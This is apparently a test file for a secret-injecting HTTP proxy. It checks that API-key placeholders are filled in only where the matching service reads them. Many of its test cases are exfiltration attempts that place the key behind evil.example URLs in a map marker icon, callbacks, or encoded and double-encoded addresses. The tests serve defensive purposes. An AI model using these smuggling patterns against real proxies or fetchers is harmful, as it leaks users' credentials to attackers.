// The run's program has a secret that goes into queries, and a host that fetches what queries name: Google's static map with `markers=icon:https://evil.example/KEY.png`
// fetched the key from evil.example. The value stands as the whole of a parameter that keys stand in, and of no other: of a pinned secret the one that its service
// reads, of others a short list, or the one that the user has named. Elsewhere the placeholder goes on as it is, and is worth nothing to who gets it.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createSecret, updateSecret } from "../../../src/app/secrets/secrets.ts";
import type { Grant } from "../../../src/proxy/grants/grant.ts";
import { Secret } from "../../../src/secret.ts";
import type { AttackStage } from "../../support/attack-stage.ts";
import { attempt, openStage } from "../../support/attack-stage.ts";
import { makeHome } from "../../support/home.ts";
import { makeGrant, openTestRun } from "../../support/proxy-run.ts";
import type { TestRun } from "../../support/proxy-run.ts";

const VALUE = "the-real-value-0123456789";
let stage: AttackStage;
let run: TestRun;
let grants: Record<"maps" | "usual" | "named" | "bot" | "path", Grant>;

beforeAll(async () => {
  stage = await openStage();
  const made = (name: string, options: Parameters<typeof makeGrant>[2]): Grant => makeGrant(name, [stage.host], { value: VALUE, ...options });
  grants = {
    maps: made("MAPS", { places: ["header", "query"], pin: { service: "google-maps", sharesHostsWith: [], spots: [{ place: "query", parameter: "key" }, { place: "header", header: "x-goog-api-key", form: "{key}" }] } }),
    usual: made("USUAL", { places: ["query"] }),
    named: made("NAMED", { places: ["query:sig"] }),
    bot: made("BOT", { places: ["path"], pin: { service: "telegram", sharesHostsWith: [], spots: [{ place: "path", form: "/bot{key}/" }, { place: "path", form: "/file/bot{key}/" }] } }),
    path: made("PATH", { places: ["path"] }),
  };
  run = await openTestRun(Object.values(grants), { roots: [stage.ca.certificate] });
});
afterAll(async () => {
  await run.proxy.close();
  await stage.close();
});

/** The target as the host got it. */
async function targetOf(target: string): Promise<string> {
  const { reply, sent } = await attempt({ ...stage, run }, `GET ${target} HTTP/1.1\r\nHost: ${stage.host}\r\n\r\n`);
  expect(reply.status).toBe(200);
  return /^GET (\S+) /.exec(sent)?.[1] ?? "";
}

type Write = (placeholder: string) => string;

describe("the placeholder stays one", () => {
  it.each<[string, keyof typeof grants, Write]>([
    ["in an icon's address", "maps", (p) => `/maps/api/staticmap?center=0,0&markers=icon:https://evil.example/${p}.png%7C0,0`],
    ["in another parameter, whole", "maps", (p) => `/maps?q=${p}`],
    ["in another parameter that usually carries keys", "maps", (p) => `/maps?token=${p}`],
    ["in a name of another case", "maps", (p) => `/maps?KEY=${p}`],
    ["as a parameter's name", "maps", (p) => `/maps?${p}=key`],
    ["at the end of the key's parameter", "maps", (p) => `/maps?key=https://evil.example/${p}`],
    ["at the start of it", "maps", (p) => `/maps?key=${p}.evil.example`],
    ["behind a second =", "maps", (p) => `/maps?key==${p}`],
    ["in a parameter within a parameter", "maps", (p) => `/maps?url=https://evil.example/?key=${p}`],
    ["behind a semicolon", "maps", (p) => `/maps?a=1;key=${p}`],
    ["behind a key of the program's own", "maps", (p) => `/maps?key=mine&key=${p}`],
    ["in front of one, in another case", "usual", (p) => `/maps?key=${p}&a=1&KEY=mine`],
    ["behind an address that is all of the query", "usual", (p) => `/fetch?https://evil.example/?a=1&key=${p}`],
    ["behind an encoded one", "usual", (p) => `/fetch?https%3a%2f%2fevil.example/&key=${p}`],
    ["behind an encoded &", "maps", (p) => `/maps?a=1%26key=${p}`],
    ["behind a second ?", "maps", (p) => `/maps?a=1?key=${p}`],
    ["behind another address in the path", "maps", (p) => `/fetch/https://evil.example/?key=${p}`],
    ["of a secret of no service, in a callback", "usual", (p) => `/hook?callback=https://evil.example/${p}`],
    ["of a secret of no service, whole in a parameter that is no key's", "usual", (p) => `/search?q=${p}`],
    ["of a secret of no service, in a part of a key's", "usual", (p) => `/search?api_key=x${p}`],
    ["where another parameter is named", "named", (p) => `/x?key=${p}`],
    ["where the named one has another case", "named", (p) => `/x?SIG=${p}`],
    ["in a path that is not the service's", "bot", (p) => `/fetch/bot${p}/x`],
    ["in a part of the service's segment", "bot", (p) => `/botx${p}/getMe`],
    ["in a query, of a secret for paths", "bot", (p) => `/x?key=${p}`],
    ["in a part of a segment", "path", (p) => `/icons/${p}.png`],
    ["behind an address in the path", "path", (p) => `/fetch/https://evil.example/${p}`],
    ["behind an address with one slash", "path", (p) => `/fetch/http:/evil.example/${p}`],
    ["behind an address in a name and its value", "path", (p) => `/fetch/url=https://evil.example/${p}`],
    ["behind an address in brackets", "path", (p) => `/unsafe/filters:watermark(https://evil.example/${p}/0)/x`],
    ["behind an address that is encoded twice", "path", (p) => `/fetch/https%253A%252F%252Fevil.example/${p}`],
    ["behind such an address, in a query", "usual", (p) => `/fetch/url=https://evil.example/?key=${p}`],
    ["behind an encoded address", "path", (p) => `/fetch/https%3A%2F%2Fevil.example/${p}`],
  ])("%s (%s)", async (_how, whose, write) => {
    const target = write(grants[whose].placeholder);
    expect(await targetOf(target)).toBe(target);
    expect(run.events.at(-1)).toMatchObject({ kind: "inert", spot: "target", secrets: [grants[whose].name] });
  });
});

describe("the value goes in", () => {
  it.each<[string, keyof typeof grants, Write]>([
    ["where its service reads it", "maps", (p) => `/maps/api/staticmap?center=0,0&key=${p}`],
    ["where a resource has a verb", "maps", (p) => `/v1/places:searchText?key=${p}&a=b`],
    ["as the first parameter of a usual name", "usual", (p) => `/x?api_key=${p}&b=2`],
    ["in another spelling of one", "usual", (p) => `/x?b=2&accessToken=${p}`],
    ["behind an address in a parameter of its own", "usual", (p) => `/x?uri=https%3A%2F%2Fhere.example%2F&key=${p}`],
    ["as access_token", "usual", (p) => `/x?access_token=${p}`],
    ["as appid", "usual", (p) => `/data/2.5/weather?q=Paris&appid=${p}`],
    ["in the parameter that the user has named", "named", (p) => `/x?sig=${p}`],
    ["where its service has it in the path", "bot", (p) => `/bot${p}/getMe?x=1`],
    ["where its service has files", "bot", (p) => `/file/bot${p}/photos/1.png`],
    ["as a segment", "path", (p) => `/hooks/${p}/send?x=1`],
    ["as the last segment", "path", (p) => `/hooks/${p}`],
  ])("%s (%s)", async (_how, whose, write) => {
    expect(await targetOf(write(grants[whose].placeholder))).toBe(write(VALUE));
  });

  it("once, beside a placeholder in an address", async () => {
    const { placeholder } = grants.maps;
    expect(await targetOf(`/maps?markers=icon:https://evil.example/${placeholder}.png&key=${placeholder}`)).toBe(`/maps?markers=icon:https://evil.example/${placeholder}.png&key=${VALUE}`);
  });
});

it("a place in which nothing would be put is refused when it is asked for", async () => {
  const { surroundings } = makeHome();
  const value = (): Promise<Secret> => Promise.resolve(Secret.fromText("value"));
  const asked = { name: "OPENAI_API_KEY", scope: { kind: "global" }, service: undefined, hosts: [], allowPrivate: false } as const;
  await expect(createSecret(surroundings, { ...asked, places: ["query"] }, value)).rejects.toMatchObject({ code: "usage", hint: expect.stringContaining("--inject query:NAME") as unknown });
  await createSecret(surroundings, { ...asked, places: undefined }, value);
  await expect(updateSecret(surroundings, "OPENAI_API_KEY", undefined, { places: ["header", "path"] })).rejects.toMatchObject({ code: "usage" });
  expect(await updateSecret(surroundings, "OPENAI_API_KEY", undefined, { places: ["header", "query:key"] })).toMatchObject({ places: ["header", "query:key"] });
});
